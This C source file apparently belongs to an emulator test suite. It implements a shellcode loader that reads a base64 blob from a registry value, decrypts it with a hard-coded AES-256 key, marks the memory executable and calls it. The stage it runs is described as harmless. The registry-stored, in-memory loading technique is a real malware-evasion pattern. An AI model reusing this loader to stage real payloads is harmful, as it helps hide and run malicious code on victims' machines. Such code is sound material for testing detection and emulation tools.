/*
 * loader.c - generality suite: REG_SZ value -> base64 (CryptStringToBinaryA) -> AES-256-CBC
 * (CryptoAPI: CryptImportKey of a PLAINTEXTKEYBLOB, CryptSetKeyParam KP_IV, CryptDecrypt) in
 * place in RW memory -> RX -> called. Benign, emulator-only (see ../../lineage-common/common.h).
 *
 * Reads HKCU\Software\ChainreplayDemo\Profile (REG_SZ, base64 text), decodes it into a new
 * PAGE_READWRITE allocation, decrypts it there with the AES-256 key and IV below (CBC, PKCS#7
 * padding removed by Final), makes it PAGE_EXECUTE_READ and calls it. The stage
 * (../../lineage-common/payload.c) writes C:\Users\Public\lineage_aes.txt.
 * Exit codes: 0 ok, 1 no marker, 2 registry, 3 base64, 4 crypto, 5 memory.
 */
#include "common.h"
#include <wincrypt.h>

struct aes_blob {
    BLOBHEADER header;
    DWORD size;
    BYTE key[32];
};

void Entry(void)
{
    static struct sc_ctx ctx;
    static const struct aes_blob blob = {
        {PLAINTEXTKEYBLOB, CUR_BLOB_VERSION, 0, CALG_AES_256},
        32,
        {0x60, 0x3d, 0xeb, 0x10, 0x15, 0xca, 0x71, 0xbe, 0x2b, 0x73, 0xae, 0xf0, 0x85, 0x7d, 0x77, 0x81,
         0x1f, 0x35, 0x2c, 0x07, 0x3b, 0x61, 0x08, 0xd7, 0x2d, 0x98, 0x10, 0xa3, 0x09, 0x14, 0xdf, 0xf4},
    };
    static const BYTE iv[16] = {0x00, 0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07,
                                0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x0e, 0x0f};
    typedef DWORD (WINAPI *entry_t)(struct sc_ctx *);
    char text[4096];
    DWORD type, size = sizeof(text), n, old;
    HKEY hkey;
    HCRYPTPROV prov;
    HCRYPTKEY key;
    unsigned char *mem;

    if (!marker_present())
        ExitProcess(1);
    if (RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\ChainreplayDemo", 0, KEY_READ, &hkey) != ERROR_SUCCESS)
        ExitProcess(2);
    if (RegQueryValueExA(hkey, "Profile", 0, &type, (BYTE *)text, &size) != ERROR_SUCCESS || type != REG_SZ)
        ExitProcess(2);
    RegCloseKey(hkey);
    mem = (unsigned char *)VirtualAlloc(0, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        ExitProcess(5);
    n = 4096;
    if (!CryptStringToBinaryA(text, 0, CRYPT_STRING_BASE64, mem, &n, 0, 0) || n == 0)
        ExitProcess(3);
    if (!CryptAcquireContextA(&prov, 0, 0, PROV_RSA_AES, CRYPT_VERIFYCONTEXT))
        ExitProcess(4);
    if (!CryptImportKey(prov, (const BYTE *)&blob, sizeof(blob), 0, 0, &key))
        ExitProcess(4);
    if (!CryptSetKeyParam(key, KP_IV, iv, 0))
        ExitProcess(4);
    if (!CryptDecrypt(key, 0, TRUE, 0, mem, &n) || n == 0)
        ExitProcess(4);
    CryptDestroyKey(key);
    CryptReleaseContext(prov, 0);
    if (!VirtualProtect(mem, n, PAGE_EXECUTE_READ, &old))
        ExitProcess(5);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_aes.txt", "decrypted with CryptoAPI AES\n");
    ExitProcess(((entry_t)(void *)mem)(&ctx) ? 6 : 0);
}
